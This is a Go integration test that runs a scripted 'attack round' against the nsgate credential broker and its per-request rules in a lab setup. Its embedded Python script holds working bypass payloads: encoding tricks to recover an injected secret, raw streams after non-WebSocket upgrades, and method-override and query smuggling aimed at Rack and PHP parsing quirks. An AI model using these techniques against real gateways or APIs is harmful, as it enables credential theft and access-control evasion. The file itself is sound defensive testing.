//go:build integration

package integration

// Attack round 13 on the credential broker and the per-request rules on
// terminated TLS (docs/credentials.md, docs/policy.md "Requests"),
// written by an independent tester. Each attempt is one line of the
// worker's output; a "FINDING:" error means the attempt got through.
// Run: NSGATE_REQUIRE_ALL=1 go test -tags integration -count=1 -run TestAttack13 -v ./integration/

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/nsgate/nsgate/lab/internet"
)

const attack13Port = 9473

// secret13 has the characters real secrets hold (AWS secret keys: '/'
// and '+'), which ordinary encoders escape.
const secret13 = "it13SECRET/abc+def=0123456789xyz"

// up13 is a hostile-but-plausible HTTP/1.1-only upstream (like the Docker
// Engine API over TLS, or a server without h2).
type up13 struct{ hostileUpstream }

func startUp13(t *testing.T) *up13 {
	u := &up13{}
	u.listen(t, attack13Port, []string{"http/1.1"}, u.serve)
	return u
}

func gz(s string) []byte {
	var b bytes.Buffer
	zw := gzip.NewWriter(&b)
	io.WriteString(zw, s)
	zw.Close()
	return b.Bytes()
}

func (u *up13) serve(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	var hd strings.Builder
	for k, vs := range r.Header {
		fmt.Fprintf(&hd, "%s=%q ", k, vs)
	}
	shown := string(body)
	if strings.EqualFold(r.Header.Get("Content-Encoding"), "gzip") {
		// What a server that decodes request bodies reads (ASP.NET
		// Core's request decompression, Apache's DEFLATE input filter).
		if zr, err := gzip.NewReader(bytes.NewReader(body)); err == nil {
			if d, err := io.ReadAll(zr); err == nil {
				shown = "(gunzipped) " + string(d)
			}
		}
	}
	u.log(fmt.Sprintf("[%s] %s %s | %s| body %q", r.Header.Get("X-Attempt"), r.Method, r.RequestURI, hd.String(), clip(shown, 400)))
	auth := r.Header.Get("Authorization")
	if up := r.Header.Get("Upgrade"); up != "" && !strings.EqualFold(up, "websocket") {
		// A server with an upgrade of its own (Docker's "tcp" for
		// attach/exec, Kubernetes' "SPDY/3.1"): 101, then the raw stream.
		c, rw, err := http.NewResponseController(w).Hijack()
		if err != nil {
			return
		}
		defer c.Close()
		rw.WriteString("HTTP/1.1 101 UPGRADED\r\nConnection: Upgrade\r\nUpgrade: " + up + "\r\n\r\n")
		rw.WriteString("tunnel-echo " + auth + "\n")
		rw.Flush()
		c.SetReadDeadline(time.Now().Add(4 * time.Second))
		var got bytes.Buffer
		buf := make([]byte, 4096)
		for got.Len() < 1<<16 {
			n, err := rw.Read(buf)
			got.Write(buf[:n])
			if err != nil || bytes.Contains(got.Bytes(), []byte("END\n")) {
				break
			}
		}
		u.log(fmt.Sprintf("[%s] TUNNEL %s | received after the 101: %q", r.Header.Get("X-Attempt"), r.RequestURI, clip(got.String(), 600)))
		fmt.Fprintf(rw, "tunnel-got %q\n", got.String())
		rw.Flush()
		return
	}
	raw := func(head string, b []byte) {
		c, rw, err := http.NewResponseController(w).Hijack()
		if err != nil {
			return
		}
		defer c.Close()
		rw.WriteString(head + fmt.Sprintf("Content-Length: %d\r\nConnection: close\r\n\r\n", len(b)))
		rw.Write(b)
		rw.Flush()
	}
	switch r.URL.Path {
	case "/ce-empty":
		// The first Content-Encoding empty, the second gzip.
		raw("HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Encoding: \r\nContent-Encoding: gzip\r\n", gz("gz-echo "+auth+"\n"))
	case "/ce-identity":
		raw("HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Encoding: identity\r\nContent-Encoding: gzip\r\n", gz("gz-echo "+auth+"\n"))
	case "/json":
		// PHP's json_encode escapes '/' by default.
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, `{"error":"bad token","token":"%s"}`, strings.ReplaceAll(auth, "/", `\/`))
	case "/pctredir":
		// An OAuth-style redirect carrying the token in a query, as
		// url.QueryEscape writes it.
		w.Header().Set("Location", "https://api.example.test/cb?tok="+url.QueryEscape(auth))
		w.WriteHeader(302)
	case "/utf16":
		// A .NET-style API answering in UTF-16 (Encoding.Unicode).
		w.Header().Set("Content-Type", "application/json; charset=utf-16le")
		js := `{"error":"bad token","token":"` + auth + `"}`
		var b []byte
		for i := 0; i < len(js); i++ {
			b = append(b, js[i], 0)
		}
		w.Write(b)
	case "/html":
		// An HTML error page from Go's html/template, which writes '+'
		// as &#43; (and every template engine writes & < > " ' as
		// entities).
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, "<p>invalid token %s</p>", strings.NewReplacer("&", "&amp;", "+", "&#43;", "<", "&lt;", ">", "&gt;", `"`, "&#34;", "'", "&#39;").Replace(auth))
	case "/malformed":
		// A malformed response whose bad header line holds the echo:
		// Go's transport quotes it in its error.
		raw("HTTP/1.1 200 OK\r\n"+auth+"\r\n", nil)
	case "/lower":
		// The echo in lower case (an upstream that normalises a
		// case-insensitive token): scrubbed in a header, not in the body.
		w.Header().Set("X-Echo-Lower", strings.ToLower(auth))
		fmt.Fprintf(w, "token %s\n", strings.ToLower(auth))
	case "/ce-comma":
		raw("HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Encoding: , gzip\r\n", gz("gz-echo "+auth+"\n"))
	case "/hundred":
		w.Header().Set("X-Early", auth)
		w.WriteHeader(102)
		w.Header().Del("X-Early")
		w.Header().Set("X-Cont", auth)
		w.WriteHeader(100)
		w.Header().Del("X-Cont")
		w.WriteHeader(200)
		fmt.Fprintln(w, "clean")
	default:
		fmt.Fprintf(w, "ok %s %s\n", r.Method, r.URL.Path)
	}
}

func attack13Policy(caFile string) string {
	return fmt.Sprintf(`version: 1
allow:
  - host: api.example.test
    ports: [%d]
    tls: terminate
    requests:
      - methods: [GET]
        paths: ["/repos/acme/**", "/tunnel", "/ce-empty", "/ce-identity", "/json", "/pctredir", "/hundred", "/utf16", "/html", "/malformed", "/ce-comma", "/lower"]
      - methods: [POST]
        paths: ["/repos/acme/app/issues"]
      - methods: [GET]
        paths: ["/search"]
        query: {q: "repo:acme/*"}
      - methods: [GET]
        paths: ["/list"]
        query: {per_page: "10"}
dns:
  upstream: ["%s"]
  hosts:
    api.example.test: [%s]
tls:
  upstream_ca: %s
credentials:
  - name: api
    from: {env: NSGATE_IT13_SECRET}
    placeholder_env: API_TOKEN
    hosts: [api.example.test]
    header: Authorization
    format: "Bearer {}"
`, attack13Port, internet.UpstreamDNS, internet.AppV4, caFile)
}

// attack13Script: each attempt prints "NAME: result".
const attack13Script = `
import os, ssl, socket, json, subprocess, urllib.parse, gzip, time
PH = os.environ['API_TOKEN']
HOST = 'api.example.test'
PORT = %d
ctx = ssl.create_default_context()
def conn(timeout=8):
    return ctx.wrap_socket(socket.create_connection((HOST, PORT), timeout=timeout), server_hostname=HOST)
def readall(c):
    out = b''
    try:
        while True:
            b = c.recv(65536)
            if not b: break
            out += b
    except Exception as e:
        out += ('<<%%s>>' %% e).encode()
    return out
def raw(data, timeout=8):
    c = conn(timeout)
    c.sendall(data)
    out = readall(c)
    c.close()
    return out
def show(name, r):
    print(name + ': ' + repr(r[:700]))
def status(r):
    return r.split(b'\r\n')[0]
base = 'https://%%s:%%d' %% (HOST, PORT)
def curl(name, *args):
    r = subprocess.run(['/usr/bin/curl', '-sS', '-i', '-H', 'X-Attempt: ' + name] + list(args), capture_output=True)
    return r.stdout + r.stderr

show('control', curl('control', '-H', 'Authorization: Bearer ' + PH, base + '/repos/acme/x'))

# --- 1. a non-WebSocket upgrade: the raw stream after the 101 ---
for name, proto in [('tunnel-tcp', 'tcp'), ('tunnel-spdy', 'SPDY/3.1')]:
    c = conn()
    c.sendall(('GET /tunnel HTTP/1.1\r\nHost: %%s\r\nX-Attempt: %%s\r\nAuthorization: Bearer %%s\r\nConnection: Upgrade\r\nUpgrade: %%s\r\n\r\n' %% (HOST, name, PH, proto)).encode())
    out = b''
    while b'tunnel-echo' not in out or not out.endswith(b'\n'):
        b = c.recv(65536)
        if not b: break
        out += b
    # The placeholder and a request the rules refuse, over the stream.
    c.sendall(('leak %%s\nDELETE /repos/other/admin HTTP/1.1\r\nHost: %%s\r\n\r\nEND\n' %% (PH, HOST)).encode())
    out += readall(c)
    c.close()
    show(name, out)

# --- 2. the secret back, in encodings ordinary clients decode ---
show('ce-empty', curl('ce-empty', '--compressed', '-H', 'Authorization: Bearer ' + PH, base + '/ce-empty'))
show('ce-identity', curl('ce-identity', '--compressed', '-H', 'Authorization: Bearer ' + PH, base + '/ce-identity'))
show('held-ce-comma', curl('held-ce-comma', '--compressed', '-H', 'Authorization: Bearer ' + PH, base + '/ce-comma'))
chunked = ('5;ext=%%s\r\nhello\r\n0\r\n\r\n' %% PH).encode()
show('held-chunk-ext', raw(('POST /repos/acme/app/issues HTTP/1.1\r\nHost: %%s\r\nX-Attempt: held-chunk-ext\r\nAuthorization: Bearer %%s\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n' %% (HOST, PH)).encode() + chunked))
show('ce-empty-h1', curl('ce-empty-h1', '--http1.1', '--compressed', '-H', 'Authorization: Bearer ' + PH, base + '/ce-empty'))
r = curl('json-decoded', '-H', 'Authorization: Bearer ' + PH, base + '/json')
try:
    show('json-decoded', json.loads(r.split(b'\r\n\r\n', 1)[1])['token'].encode())
except Exception as e:
    show('json-decoded', r + (' <<%%s>>' %% e).encode())
r = curl('pctredir-decoded', '-H', 'Authorization: Bearer ' + PH, base + '/pctredir')
loc = [l for l in r.split(b'\r\n') if l.lower().startswith(b'location:')]
if loc:
    q = urllib.parse.urlparse(loc[0].split(b':', 1)[1].strip().decode()).query
    show('pctredir-decoded', repr(urllib.parse.parse_qs(q)).encode())
else:
    show('pctredir-decoded', r)
r = curl('utf16-decoded', '-H', 'Authorization: Bearer ' + PH, base + '/utf16')
try:
    show('utf16-decoded', r.split(b'\r\n\r\n', 1)[1].decode('utf-16le').encode())
except Exception as e:
    show('utf16-decoded', r + (' <<%%s>>' %% e).encode())
import html
r = curl('html-unescaped', '-H', 'Authorization: Bearer ' + PH, base + '/html')
show('html-unescaped', html.unescape(r.decode('latin-1')).encode())
show('lower-body', curl('lower-body', '-H', 'Authorization: Bearer ' + PH, base + '/lower'))
show('held-malformed', curl('held-malformed', '-H', 'Authorization: Bearer ' + PH, base + '/malformed'))
show('held-hundred', raw(('GET /hundred HTTP/1.1\r\nHost: %%s\r\nX-Attempt: held-hundred\r\nAuthorization: Bearer %%s\r\nConnection: close\r\n\r\n' %% (HOST, PH)).encode()))

# --- 3. method overrides where nsgate does not look ---
def post(name, headers, body, target='/repos/acme/app/issues'):
    h = 'POST %%s HTTP/1.1\r\nHost: %%s\r\nX-Attempt: %%s\r\nAuthorization: Bearer %%s\r\n%%sContent-Length: %%d\r\nConnection: close\r\n\r\n' %% (target, HOST, name, PH, headers, len(body))
    r = raw(h.encode() + body)
    print('%%s: %%r' %% (name, status(r)))
# Rack (Puma, WEBrick, Unicorn) reads header names CGI-style: '_' and '-'
# both become '_', so this is HTTP_X_HTTP_METHOD_OVERRIDE to Rails.
post('override-underscore-hdr', 'X_HTTP_METHOD_OVERRIDE: DELETE\r\n', b'')
post('override-underscore-hdr2', 'x_http_method: DELETE\r\nX-Method_Override: DELETE\r\n', b'')
# PHP's SAPI cuts the media type at the first space (main/SAPI.c).
post('override-ct-space-form', 'Content-Type: application/x-www-form-urlencoded x\r\n', b'_method=DELETE')
mp = b'--XX\r\nContent-Disposition: form-data; name="_method"\r\n\r\nDELETE\r\n--XX--\r\n'
post('override-ct-space-multipart', 'Content-Type: multipart/form-data x; boundary=XX\r\n', mp)
# A part header line Go's textproto refuses (no colon): nsgate's parse of
# the body stops; PHP skips the line, Rack matches Content-Disposition by
# a regex over the whole part head.
mpbad = b'--XX\r\nthis line has no colon\r\nContent-Disposition: form-data; name="_method"\r\n\r\nDELETE\r\n--XX--\r\n'
post('override-multipart-badline', 'Content-Type: multipart/form-data; boundary=XX\r\n', mpbad)
mpbad2 = b'--XX\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--XX\r\nBad Name: x\r\nContent-Disposition: form-data; name="_method"\r\n\r\nDELETE\r\n--XX--\r\n'
post('held-multipart-badname', 'Content-Type: multipart/form-data; boundary=XX\r\n', mpbad2)
# PHP's boundary reading (main/rfc1867.c): unquoted up to ',' or ';'
# (a '"' inside kept), quoted only if '"' follows '=' at once.
mpq = b'--a"b\r\nContent-Disposition: form-data; name="_method"\r\n\r\nDELETE\r\n--a"b--\r\n'
post('override-mp-boundary-quote-inside', 'Content-Type: multipart/form-data; boundary=a"b\r\n', mpq)
mps = b'-- "XX"\r\nContent-Disposition: form-data; name="_method"\r\n\r\nDELETE\r\n-- "XX"--\r\n'
post('override-mp-boundary-space-quoted', 'Content-Type: multipart/form-data; boundary= "XX"\r\n', mps)
r = curl('override-underscore-hdr-h2', '--http2', '-X', 'POST', '-H', 'Authorization: Bearer ' + PH, '-H', 'x_http_method_override: DELETE', '-d', '', base + '/repos/acme/app/issues')
print('override-underscore-hdr-h2: %%r' %% r.split(b'\r\n')[0])
# Rack's normalize_params takes the name out of brackets around it
# (/\A[\[\]]*([^\[\]]+)\]*/): "[_method]" and "_method]" are _method.
post('override-rack-brackets', 'Content-Type: application/x-www-form-urlencoded\r\n', b'[_method]=DELETE')
post('override-rack-bracket-tail', 'Content-Type: application/x-www-form-urlencoded\r\n', b'_method]=DELETE')
post('override-rack-brackets-multipart', 'Content-Type: multipart/form-data; boundary=XX\r\n', b'--XX\r\nContent-Disposition: form-data; name="[_method]"\r\n\r\nDELETE\r\n--XX--\r\n')
# Two name parameters: PHP (rfc1867.c) and Rack (its regex is greedy)
# take the last; the strict parse refuses the duplicate and nsgate's
# loose reading takes the first.
post('override-mp-dup-name', 'Content-Type: multipart/form-data; boundary=XX\r\n', b'--XX\r\nContent-Disposition: form-data; name="x"; name="_method"\r\n\r\nDELETE\r\n--XX--\r\n')
# Rack strips a boundary line before comparing it; Go's reader needs it
# at the line's start, so to nsgate all of this is preamble.
post('override-mp-leading-space-boundary', 'Content-Type: multipart/form-data; boundary=XX\r\n', b' --XX\r\nContent-Disposition: form-data; name="_method"\r\n\r\nDELETE\r\n--XX--\r\n')
# Connection names Content-Type: nsgate judges a text/plain body (no
# form), then the reverse proxy drops Content-Type as hop-by-hop, and
# Rack reads a POST without a Content-Type as a form.
post('override-connection-drops-ct', 'Content-Type: text/plain\r\nConnection: Content-Type\r\n', b'_method=DELETE')
post('held-override-header', 'X-HTTP-Method-Override: DELETE\r\n', b'')
post('held-override-form', 'Content-Type: application/x-www-form-urlencoded\r\n', b'_method=DELETE')
# The form gzipped (a server that decodes request bodies reads it).
post('override-gzip-form', 'Content-Type: application/x-www-form-urlencoded\r\nContent-Encoding: gzip\r\n', gzip.compress(b'_method=DELETE'))

# --- 4. query rules: PHP renames parameter names ---
for name, q in [('query-php-space', 'q=repo:acme/x&%%20q=repo:evil/x'), ('query-php-nul', 'q=repo:acme/x&q%%00=repo:evil/x'),
        ('query-php-index', 'q=repo:acme/x&q%%5B%%5D=repo:evil/x'), ('held-query-control', 'q=repo:acme/x')]:
    r = raw(('GET /search?%%s HTTP/1.1\r\nHost: %%s\r\nX-Attempt: %%s\r\nAuthorization: Bearer %%s\r\nConnection: close\r\n\r\n' %% (q, HOST, name, PH)).encode())
    print('%%s: %%r' %% (name, status(r)))
for name, q in [('query-php-dot', 'per_page=10&per.page=1000'), ('query-php-space2', 'per_page=10&%%20per_page=1000')]:
    r = raw(('GET /list?%%s HTTP/1.1\r\nHost: %%s\r\nX-Attempt: %%s\r\nAuthorization: Bearer %%s\r\nConnection: close\r\n\r\n' %% (q, HOST, name, PH)).encode())
    print('%%s: %%r' %% (name, status(r)))
print('DONE')
`

// TestAttack13 runs attack13Script in one worker and judges it from the
// worker's output, what up13 recorded and the audit log.
func TestAttack13(t *testing.T) {
	up := startUp13(t)
	forEachMode(t, func(t *testing.T, m mode) {
		up.mu.Lock()
		up.got = nil
		up.mu.Unlock()
		dir := workDir(t, m)
		caFile := writeFile(t, dir, "upstream-ca.pem", string(up.ca.PEM()))
		pol := writeFile(t, dir, "policy.yaml", attack13Policy(caFile))
		log := filepath.Join(dir, "audit.jsonl")
		cmd := nsgateCmd(m, "run", "--policy", pol, "--audit", log, "--exec-allow", "/usr/bin/curl", "--", "/usr/bin/python3", "-c", fmt.Sprintf(attack13Script, attack13Port))
		cmd.Env = append(cmd.Env, "NSGATE_IT13_SECRET="+secret13)
		r := runBounded(t, cmd, 170*time.Second, "nsgate run (attack13)", nil)
		t.Logf("exit %d\nstdout:\n%s\nstderr:\n%s", r.code, r.stdout, clip(r.stderr, 3000))
		lines := map[string]string{}
		var names []string
		sc := bufio.NewScanner(strings.NewReader(r.stdout))
		sc.Buffer(make([]byte, 1<<20), 1<<20)
		for sc.Scan() {
			if k, v, ok := strings.Cut(sc.Text(), ": "); ok {
				if _, dup := lines[k]; !dup {
					names = append(names, k)
				}
				lines[k] = v
			}
		}
		byAttempt := map[string][]string{}
		for _, s := range up.seen() {
			t.Logf("upstream got: %s", s)
			name, rest, _ := strings.Cut(strings.TrimPrefix(s, "["), "] ")
			byAttempt[name] = append(byAttempt[name], rest)
		}
		if !strings.Contains(lines["control"], "ok GET /repos/acme/x") || len(byAttempt["control"]) != 1 || !strings.Contains(byAttempt["control"][0], "Bearer "+secret13) {
			t.Errorf("control: the allowed request did not reach the upstream with the secret: %s %q", lines["control"], byAttempt["control"])
		}
		for _, name := range names {
			t.Run(name, func(t *testing.T) {
				if v := lines[name]; strings.Contains(v, secret13) {
					t.Errorf("FINDING: %s: the worker got the secret: %s", name, v)
				}
				if v := lines[name]; strings.Contains(v, strings.ToLower(secret13)) {
					t.Errorf("FINDING: %s: the worker got the secret in lower case (scrubbed in any case in headers, not in the body): %s", name, v)
				}
				for _, s := range byAttempt[name] {
					l := strings.ToLower(s)
					if strings.Contains(l, "nsgph") {
						t.Errorf("FINDING: %s: the placeholder reached the upstream: %s", name, s)
					}
					if strings.Contains(s, "/repos/other/admin") {
						t.Errorf("FINDING: %s: a request the rules refuse reached the upstream (over the upgraded stream): %s", name, s)
					}
					if strings.HasPrefix(s, "POST ") {
						hdrs, body, _ := strings.Cut(s, "| body ")
						hn := strings.ToUpper(strings.ReplaceAll(hdrs, "_", "-"))
						if strings.Contains(hn, "X-HTTP-METHOD-OVERRIDE=") || strings.Contains(hn, "X-HTTP-METHOD=") || strings.Contains(hn, "X-METHOD-OVERRIDE=") {
							t.Errorf("FINDING: %s: an override header Rack reads as HTTP_X_HTTP_METHOD_OVERRIDE (or kin) reached the upstream on an allowed POST: %s", name, s)
						}
						if strings.Contains(strings.ToLower(body), "_method") {
							t.Errorf("FINDING: %s: a _method field nsgate did not judge reached the upstream on an allowed POST: %s", name, s)
						}
					}
					if strings.HasPrefix(s, "GET /list") && strings.Contains(s, "1000") {
						t.Errorf("FINDING: %s: a second per_page that PHP reads (renamed to per_page; the last wins) reached the upstream; the rule judged only the first: %s", name, s)
					}
					if strings.HasPrefix(s, "GET /search") && strings.Contains(s, "evil") {
						t.Errorf("FINDING: %s: a second q that PHP reads (renamed: leading space dropped, cut at NUL, [] index) reached the upstream; the rule judged only the first: %s", name, s)
					}
				}
			})
		}
		for _, ar := range readAudit(t, log) {
			if ev := ar.str("event"); ev == "request" || ev == "credential" {
				t.Logf("audit: %v", ar)
			}
			if strings.Contains(fmt.Sprint(ar), secret13) {
				t.Errorf("FINDING: audit record holds the secret: %v", ar)
			}
		}
		if !strings.Contains(r.stdout, "DONE") {
			t.Errorf("the attack script did not finish")
		}
	})
}

func sortedKeys(m map[string]string) []string {
	var ks []string
	for k := range m {
		ks = append(ks, k)
	}
	for i := range ks {
		for j := i + 1; j < len(ks); j++ {
			if ks[j] < ks[i] {
				ks[i], ks[j] = ks[j], ks[i]
			}
		}
	}
	return ks
}
